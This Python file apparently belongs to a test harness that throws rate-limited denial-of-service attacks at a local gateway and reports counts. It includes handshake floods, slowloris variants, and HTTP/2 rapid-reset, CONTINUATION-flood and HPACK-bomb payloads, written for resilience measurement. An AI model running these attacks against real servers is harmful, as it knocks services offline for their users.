"""Attacks in a process of their own, from addresses of their own: `python attackers.py ATTACK PORT SECONDS CERTIFICATE KEY
ADDRESSES`.

Each is bounded in rate, and the process steps back behind all others on the processor: what is measured beside it is what
the gateway spends on an attack, not what the attacker takes from a machine that both share. Prints counts as JSON."""

import contextlib
import itertools
import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

from clients import Client, Closed, connect, context_for
from http2_client import PREFACE, HTTP2Client, frame

ATTACKS = {}
HELD = 2000
ERRORS = (OSError, ssl.SSLError, Closed, AssertionError)


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def record(payload, kind=22):
    return bytes([kind, 3, 1]) + struct.pack(">H", len(payload)) + payload


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context_for().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


class Attacker:
    def __init__(self, port, seconds, credential, addresses):
        self.port, self.credential, self.context = port, credential, context_for(credential)
        self.end = time.monotonic() + seconds
        self.counts = {"attempts": 0, "connected": 0, "ended": 0}
        self.addresses = itertools.cycle(addresses)
        self.held = []

    @property
    def is_over(self):
        return time.monotonic() >= self.end

    def pace(self, rate):
        """So often a second until the time is over; what was missed is not made up for."""
        due = time.monotonic()
        while not self.is_over:
            yield
            due = max(due + 1 / rate, time.monotonic())
            time.sleep(max(0.0, min(due, self.end) - time.monotonic()))

    def open(self, make, **options):
        """A connection from the next address, or nothing."""
        self.counts["attempts"] += 1
        try:
            one = make(source=next(self.addresses), timeout=2, **options)
            self.counts["connected"] += 1
            return one
        except ERRORS:
            self.counts["ended"] += 1
            return None

    def plain(self, **options):
        return self.open(lambda **more: connect(self.port, **more), **options)

    def http1(self, **options):
        return self.open(lambda **more: Client(self.port, context=self.context, **more), **options)

    def http2(self, **options):
        return self.open(lambda **more: HTTP2Client(self.port, self.credential, **more), **options)

    def hold(self, one):
        self.held.append(one)
        if len(self.held) > HELD:
            self.held.pop(0).close()

    def try_to(self, work, one):
        """Whether the gateway let it happen."""
        try:
            work(one)
            return True
        except ERRORS:
            self.counts["ended"] += 1
            one.close()
            return False

    def keep(self, count, make, step, every, rate=20):
        """Keeps so many connections, and takes a step on each again and again. So many new ones come a second at most."""
        kept, room = [], 1.0
        for _ in self.pace(1 / every):
            room = min(room + rate * every, rate)
            while room >= 1:
                room -= 1
                if len(kept) < count and not self.is_over and (one := make()):
                    kept.append(one)
            kept = [one for one in kept if self.try_to(step, one)]

    def again_and_again(self, rate, make, work):
        for _ in self.pace(rate):
            if one := make():
                self.try_to(work, one)
                one.close()


# The door

@attack
def connect_flood(attacker):
    for _ in attacker.pace(500):
        if one := attacker.plain():
            one.close()


@attack
def accept_starvation(attacker):
    for _ in attacker.pace(500):
        if one := attacker.plain():
            attacker.hold(one)


@attack
def handshake_flood(attacker):
    """The gateway signs, and the client is gone."""
    hello = client_hello()

    def work(one):
        one.sendall(hello)
        attacker.hold(one)

    for _ in attacker.pace(300):
        if one := attacker.plain():
            attacker.try_to(work, one)


@attack
def stalled_hello(attacker):
    hello = client_hello()
    for _ in attacker.pace(300):
        if (one := attacker.plain()) and attacker.try_to(lambda one: one.sendall(hello[:len(hello) // 2]), one):
            attacker.hold(one)


@attack
def trickled_hello(attacker):
    hello, places = client_hello(), {}

    def step(one):
        place = places[one] = places.get(one, -1) + 1
        one.sendall(hello[place:place + 1])

    attacker.keep(200, attacker.plain, step, 0.1)


@attack
def alert_flood(attacker):
    attacker.again_and_again(100, attacker.plain, lambda one: one.sendall(client_hello() + record(b"\1\0", 21) * 1000))


@attack
def garbage(attacker):
    chance = random.Random(4)
    attacker.again_and_again(200, attacker.plain, lambda one: one.sendall(chance.randbytes(4000)))


@attack
def identity_exhaustion(attacker):
    """One identity from many addresses, with one good request on each connection."""
    attacker.addresses = itertools.cycle(f"127.0.{third}.{last}" for third in (1, 2) for last in range(1, 101))

    def work(one):
        one.request()
        attacker.hold(one)

    for _ in attacker.pace(60):
        if one := attacker.http1():
            attacker.try_to(work, one)


@attack
def open_files(attacker):
    """From so many addresses that none of them is too many."""
    attacker.addresses = itertools.cycle(f"127.0.200.{number}" for number in range(1, 101))
    accept_starvation(attacker)


# HTTP/1.1

def slowly(beginning, endless):
    """Connections that begin well, and then send a byte five times a second."""
    def run(attacker):
        begun = set()

        def step(one):
            one.send(endless if one in begun else beginning)
            begun.add(one)
            one.socket.settimeout(0.0001)
            with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
                one.receive()
            one.socket.settimeout(2)

        attacker.keep(64, attacker.http1, step, 0.2)
    return run


ATTACKS["slow-head"] = slowly(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", b"x")
ATTACKS["slow-body"] = slowly(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n", b"x")


@attack
def slow_read(attacker):
    def make():
        if one := attacker.http1(receive_buffer=4096):
            one.send(b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return one

    attacker.keep(48, make, lambda one: one.socket.recv(10), 0.2)


@attack
def zero_window(attacker):
    def make():
        if one := attacker.http1(receive_buffer=4096):
            one.send(b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50)
        return one

    attacker.keep(48, make, lambda one: None, 0.2)


@attack
def pipelining_flood(attacker):
    def step(one):
        one.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)
        for _ in range(20):
            one.read_reply()

    attacker.keep(4, attacker.http1, step, 0.2)


@attack
def large_headers(attacker):
    def work(one):
        one.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        for number in range(100):
            one.send(b"X-%d: " % number + b"y" * 4000 + b"\r\n")
        one.read_reply()

    attacker.again_and_again(20, attacker.http1, work)


@attack
def many_fields(attacker):
    def work(one):
        one.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"A: b\r\n" * 5000 + b"\r\n")
        one.read_reply()

    attacker.again_and_again(20, attacker.http1, work)


def chunks(chunk, at_once):
    def run(attacker):
        def work(one):
            one.send(b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
            for _ in range(100):
                one.send(chunk * at_once)
            one.read_reply()

        attacker.again_and_again(20, attacker.http1, work)
    return run


ATTACKS["chunk-extensions"] = chunks(b"1;" + b"x" * 2000 + b"\r\ny\r\n", 10)
ATTACKS["chunks-of-a-byte"] = chunks(b"1\r\ny\r\n", 50)


# HTTP/2

def frames(one, at_once=500, opened=False, rate=20):
    """The same frame ten thousand times on each of so many connections a second, until the gateway has enough."""
    def run(attacker):
        def work(client):
            if opened:
                client.start(method="POST", end=False)
            for _ in range(10_000 // at_once):
                client.send(one * at_once)
            client.ending(1)

        attacker.again_and_again(rate, attacker.http2, work)
    return run


ATTACKS["h2-ping-flood"] = frames(frame(6, 0, 0, b"12345678"))
ATTACKS["h2-settings-flood"] = frames(frame(4))
ATTACKS["h2-priority-flood"] = frames(frame(2, 0, 3, struct.pack(">IB", 0, 1)))
ATTACKS["h2-window-update-flood"] = frames(frame(8, 0, 0, struct.pack(">I", 1)))
ATTACKS["h2-unknown-frames"] = frames(frame(0x42, 0, 0, b"x"))
ATTACKS["h2-empty-data"] = frames(frame(0, 0, 1, b""), opened=True)
ATTACKS["h2-tiny-data"] = frames(frame(0, 0, 1, b"x"), opened=True, rate=2)


def streams(after, end=True):
    """Requests that are over before they began, fifty at once."""
    def run(attacker):
        def work(client):
            for _ in range(40):
                batch = b""
                for _ in range(50):
                    stream, client.next_stream = client.next_stream, client.next_stream + 2
                    batch += client.headers(client.fields(path="/reset"), stream, end=end) + after(stream)
                client.send(batch)
            client.ending(1)

        attacker.again_and_again(2, attacker.http2, work)
    return run


ATTACKS["h2-rapid-reset"] = streams(lambda stream: frame(3, 0, stream, struct.pack(">I", 8)))
ATTACKS["h2-made-you-reset"] = streams(lambda stream: frame(8, 0, stream, struct.pack(">I", 2**31 - 1)), end=False)


def blocks(*, first=b"", rest):
    def run(attacker):
        def work(client):
            client.send(first)
            for number in range(50):
                client.send(rest(2 * number + 1))
            client.ending(1)

        attacker.again_and_again(20, attacker.http2, work)
    return run


BOMB = b"\x82\x84\x87\x41\x09localhost" + b"\x40\x01x\x7f" + b"\xa1\x1e" + b"y" * 4000 + b"\xbe" * 4000
ATTACKS["h2-continuation-flood"] = blocks(
    first=frame(1, 0, 1, b"\x82"), rest=lambda _: frame(9, 0, 1, b"\x00\x01x\x011" * 100) * 10)
ATTACKS["h2-hpack-bomb"] = blocks(rest=lambda stream: frame(1, 5, stream, BOMB))
ATTACKS["h2-table-sizes"] = blocks(rest=lambda stream: frame(1, 5, stream, b"\x20\x3f\xe1\x1f" * 1000))
ATTACKS["h2-large-headers"] = blocks(
    rest=lambda stream: frame(1, 1, stream, b"\x82\x84\x87" + b"\x00\x01x\x7f\x81\x7f" + b"y" * 16_000) + frame(9, 4, stream, b"z" * 256))


def unread(window, with_reads):
    def run(attacker):
        def make():
            one = attacker.http2(settings={4: window}, receive_buffer=4096)
            if one:
                # Else the gateway is done with it after ten seconds, whatever it reads.
                one.send(frame(4, 1))
                for _ in range(90):
                    one.start(path="/large")
            return one

        attacker.keep(8, make, lambda one: one.socket.recv(10) if with_reads else None, 0.2, rate=1)
    return run


ATTACKS["h2-zero-window"] = unread(0, True)
ATTACKS["h2-socket-not-read"] = unread(1 << 24, False)


@attack
def h2_slow_body(attacker):
    def make():
        one = attacker.http2()
        if one:
            for _ in range(20):
                one.start(method="POST", end=False)
        return one

    def step(one):
        for stream in range(1, 41, 2):
            one.data(stream, b"x")

    attacker.keep(16, make, step, 1)


@attack
def h2_half_frame(attacker):
    def make():
        one = attacker.http2(preface=False)
        if one:
            one.send(PREFACE + frame(4) + frame(1, 0, 1, b"\x82" * 8)[:-4])
        return one

    attacker.keep(64, make, lambda one: None, 0.2)


@attack
def nothing(attacker):
    """How much the good client's times differ by themselves."""
    time.sleep(attacker.end - time.monotonic())


def main(name, port, seconds, certificate, key, addresses):
    os.nice(10)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    # Each attack has a network of its own, so that none suffers for what another did before.
    network = 10 + list(ATTACKS).index(name)
    own = [f"127.0.{network}.{number}" for number in range(1, int(addresses) + 1)]
    print("ready", flush=True)
    attacker = Attacker(int(port), float(seconds), (certificate, key), own)
    ATTACKS[name](attacker)
    print(json.dumps(attacker.counts), flush=True)
    for one in attacker.held:
        one.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
